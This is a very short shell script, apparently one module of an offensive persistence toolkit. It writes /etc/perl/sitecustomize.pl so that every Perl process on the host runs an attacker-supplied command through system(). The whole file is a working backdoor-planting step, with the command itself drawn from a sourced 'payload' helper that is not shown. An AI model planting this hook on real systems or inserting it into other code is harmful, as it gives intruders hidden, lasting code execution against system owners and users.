#!/bin/sh
# perl-sitecustomize: a file that every perl runs (perlrun(1), -f)
. "${0%/*}/lib.sh"
payload
put /etc/perl/sitecustomize.pl 644 "$head" "system(\"$cmd\");"
